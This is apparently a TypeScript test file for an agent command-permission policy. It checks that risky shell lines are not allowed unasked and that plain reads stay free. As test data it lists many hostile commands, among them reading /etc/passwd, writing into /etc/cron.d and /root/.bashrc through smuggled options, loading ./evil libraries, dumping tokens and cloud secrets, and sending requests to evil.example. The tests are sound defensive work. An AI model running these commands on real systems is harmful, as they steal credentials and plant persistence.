import { posix } from "node:path";
import type { Rule } from "@toolkeep/core";
import { compilePolicy, policyCall, policyContext, RECOMMENDED_POLICY } from "@toolkeep/core/policy";
import { commandEffects } from "@toolkeep/core/ports";
import { parseCommand } from "@toolkeep/node/internal";
import { describe, expect, test } from "vitest";

const variables = { workspace: ["/ws"] };

/** What becomes of a command line; paths are made absolute as a session would. */
async function decide(line: string, rules: readonly Rule[], known = {}) {
  const effects = commandEffects(await parseCommand(line, { home: "/home/ada" }), line).map((one) =>
    one.capability.startsWith("fs.") && !one.target.startsWith("/")
      ? { ...one, target: posix.resolve("/ws", one.target) }
      : one,
  );
  const policy = compilePolicy({ rules, builtIn: "off", variables });
  return (await policy.decide(policyCall({ tool: "bash", mode: "local", effects }), policyContext(known)))
    .action;
}

const ALLOW_ALL = { permission: "*", action: "allow" } as const;

describe("commands that must not pass unasked under the recommended policy", () => {
  test.each([
    "cat src/evil | uniq - .git/config",
    "uniq src/a*",
    "grep -e. /etc/passwd",
    "grep -ie. /home/ada/notes.md",
    "rg -ne. ~/notes.md",
    "cat .[.]/other/a",
    "cat .?/other/a",
    "cd .[.] && cat other/a",
    "git diff /dev/null /etc/passwd",
    "git grep -n . ../other",
    "git blame ../x",
    "jq -n env",
    "gh pr view 1 --json title --jq env",
    "pytest @src/args.txt",
    "mypy @x",
    "dotnet build /p:PreBuildEvent=x",
    "cd src && pnpm ls",
    "cd src && docker compose ps",
    "git switch evil",
    "git checkout -b x origin/evil",
    "/bin/cat /etc/passwd",
    "base64 /etc/passwd",
  ])("%s", async (line) => {
    for (const sandbox of ["none", "files"] as const) {
      if (sandbox === "files" && /pnpm ls|docker compose/.test(line)) continue;
      expect(await decide(line, RECOMMENDED_POLICY.rules, { sandbox })).not.toBe("allow");
    }
  });
});

describe("commands that one option, one value or one word more makes another than a read", () => {
  test.each([
    "cloc --vcs=./evil.sh .",
    "cloc --vcs='sh -c \"id\"' .",
    "node -c --require=./evil.js",
    "node --check --import=./evil.mjs",
    "ruby -cr./evil",
    "ssh-keygen -l -D ./evil.so",
    "ssh-keygen -l -R github.com",
    "ssh-add -l -s ./evil.so",
    "etcdctl watch foo -- sh -c 'id'",
    "service ../../root/evil status",
    "service nginx stop --status-all",
    "uv python find ./evil",
    "uv pip list --python ./evil",
    "uv pip list --python evil",
    "gitleaks git --log-opts='--output=/root/.bashrc' .",
    "gitleaks git --log-opts=--ext-diff",
    "brew info ./evil.rb",
    "gpg --homedir ./x -K",
    "valgrind --tool=../../../root/evil ls",
    "valgrind --tool=callgrind --callgrind-out-file=/root/.bashrc ls",
    "vagrant box outdated",
    "vagrant global-status",
    "sgdisk -l backup.bin /dev/sda",
    "sgdisk -n 1:0:0 -p /dev/sda",
    "sgdisk -s /dev/sda",
    "xz -l -d a.xz",
    "zstd -t -d --rm a.zst",
    "conda config --show --set a b",
    "kill -9 -0 1234",
    "kill -KILL -0 1234",
    "kill -0 -s KILL 1234",
    "mount --source /dev/sdb1 --target /mnt",
    "mount --source evil:/share --target /mnt -t nfs",
    "ip link s eth0 down",
    "ip xfrm s flush",
    "ip mptcp l set subflows 2",
    "heroku ps:type web=performance-l",
    "heroku ps:type performance-l",
    "heroku redis:timeout -s 60",
    "adduser -h /root evil",
    "chfn -h 555 root",
    "launchctl limit maxfiles 1 1",
    "gem check --doctor",
    "pass ls Email/work",
    "pass list Email/work",
    "rclone config show -n",
    "rclone config dump --dry-run",
    "rclone ls remote: --dump auth,headers",
    "rclone tree remote: -o /etc/x",
    "docker compose config --dry-run",
    "gh config get -h github.com oauth_token",
    "kubectl get sEcret x -o yaml",
    "aws ssm get-parameter --name x --w",
    "aws s3api list-buckets --e https://evil.example",
    "yq -n --expression 'strenv(AWS_SECRET_ACCESS_KEY)'",
    "vault token lookup",
    "supabase branches get x",
    "supabase gen keys",
    "aws cognito-idp describe-user-pool-client --client-id x",
    "aws glue get-connection --name x",
    "aws wafv2 get-decrypted-api-key --api-key x",
    "aws s3control get-data-access --target x",
    "aws athena start-query-execution --query-string 'select 1' --result-configuration OutputLocation=s3://x/",
    "aws ec2 describe-instances --filters https://evil.example",
    "helm lint . -f 'https://evil.example/v.yaml?d=1'",
    "helm show all 'https://evil.example/v?d=1'",
    "az find 'text'",
    "pulumi stack graph /root/.bashrc",
    "pulumi stack tag set a b",
    "dpkg -x evil.deb /usr/share",
    "sed -i'/etc/cron.d/*' s/x/y/ job",
    "sed -ifile s/x/y/ Make",
    "csplit -f ./ -b '../../../../../etc/cron.d/x%.0d' a.txt 3",
    "opam list --json=/etc/cron.d/x",
    "opam list --root=./evil",
    "apk index -o /etc/cron.d/x y.apk",
    "firebase remoteconfig:get -o /etc/x",
    "doctl serverless functions get f --save-as /etc/x",
    "nomad job plan git::https://evil.example/x",
    "parted -s -f /dev/sda print",
    "exiftool 'id |'",
    "ansible-vault encrypt a.yml",
  ])("%s", async (line) => {
    expect(await decide(line, RECOMMENDED_POLICY.rules)).not.toBe("allow");
  });

  test.each([
    "cloc --vcs=git .",
    "node --check src/a.js",
    "ssh-keygen -lf key.pub",
    "uv python find 3.12",
    "uv pip list --python 3.12",
    "gitleaks git --log-opts=origin/main..HEAD",
    "kill -0 1234",
    "ip addr s",
    "heroku ps:type -a shop",
    "pass ls",
    "kubectl get pods -o yaml",
    "aws ssm get-parameter --name x",
    "aws sqs get-queue-attributes --queue-url https://sqs.eu-west-1.amazonaws.com/1/a",
    "helm lint charts/api -f values.yaml",
    "dpkg -x a.deb out",
    "sed -i.bak s/x/y/ job",
    "csplit -f part a.txt 3",
  ])("and without it they stay free: %s", async (line) => {
    expect(await decide(line, RECOMMENDED_POLICY.rules)).toBe("allow");
  });
});

describe("reading a database on another machine", () => {
  const taint = new Set(["private"] as const);
  test.each([
    "psql -h db.staging -c 'select 1'",
    "psql postgres://db.staging/shop -c 'select 1'",
    "psql -d 'host=db.staging' -c 'select 1'",
    "mysql -h db.staging -e 'select 1'",
    "mongosh mongodb://db.staging/shop --eval 'db.users.find()'",
    "redis-cli -h cache.staging get x",
    "redis-cli -u redis://cache.staging get x",
    "etcdctl --endpoints=etcd.staging:2379 get x",
    "cqlsh node1 -e 'select * from a.b'",
    "clickhouse-client -h ch.staging -q 'select 1'",
    "influx -host db.staging -execute 'show databases'",
    "trino --server https://trino.staging --execute 'select 1'",
    "sqlcmd -S db.staging -Q 'select 1'",
    "pg_dump -h db.staging -s shop",
  ])("asks once private data was read: %s", async (line) => {
    expect(await decide(line, RECOMMENDED_POLICY.rules)).toBe("allow");
    expect(await decide(line, RECOMMENDED_POLICY.rules, { taint })).toBe("ask");
  });

  test.each([
    "psql -h localhost -c 'select 1'",
    "mysql -h 127.0.0.1 -e 'select 1'",
    "redis-cli -h localhost get x",
    "mongosh shop --eval 'db.users.find()'",
  ])("and on this one stays free: %s", async (line) => {
    expect(await decide(line, RECOMMENDED_POLICY.rules, { taint })).toBe("allow");
  });
});

test.each([
  "git status; PATH=src git status",
  "git status; GIT_EXTERNAL_DIFF=src/evil git diff",
  "git status; A=--output=x; git log $A",
])("a pattern on a tool, or on everything, does not allow a line that is not plain: %s", async (line) => {
  const pattern = "git *";
  for (const permission of ["bash", "b*", "*", "shell.*"])
    expect(await decide(line, [{ permission, pattern, action: "allow" }])).toBe("ask");
  expect(await decide(line, [{ permission: "bash", action: "allow" }])).toBe("allow");
});

test.each([
  "cat private/x",
  "/bin/cat private/x",
  "base64 private/x",
  "cp private/x y",
  "grep -e. private/x",
  "cd private && cat x",
  "cd a && cat ../private/x",
  "cat private/*",
  "dd if=private/x of=y",
])("a deny of reading binds %s, and an allow of the command is enough elsewhere", async (line) => {
  const rules = [
    ALLOW_ALL,
    { permission: "fs.read", pattern: "{workspace}/private/**", action: "deny" } as const,
  ];
  expect(await decide(line, rules)).toBe("deny");
  expect(await decide(line.replace("private", "public"), rules)).toBe("allow");
  expect(await decide("cat public/x", [{ permission: "shell.run", pattern: "cat *", action: "allow" }])).toBe(
    "allow",
  );
});

test.each([
  ["git push origin HEAD", "deny"],
  ["git push origin @", "deny"],
  ["git push origin HEAD:heads/main", "deny"],
  ["git push -4f origin x", "deny"],
  ["git push --m origin", "deny"],
  ["git push origin topic", "allow"],
  ["npm pu", "deny"],
  ["python -m twine upload x", "deny"],
] as const)("%s under denies of pushing to main, by force, and of publishing: %s", async (line, action) => {
  const rules: Rule[] = [
    ALLOW_ALL,
    { permission: "git.push", pattern: "origin main", action: "deny" },
    { permission: "git.push", action: "deny", if: ["forced"] },
    { permission: "package.publish", action: "deny" },
  ];
  expect(await decide(line, rules)).toBe(action);
});
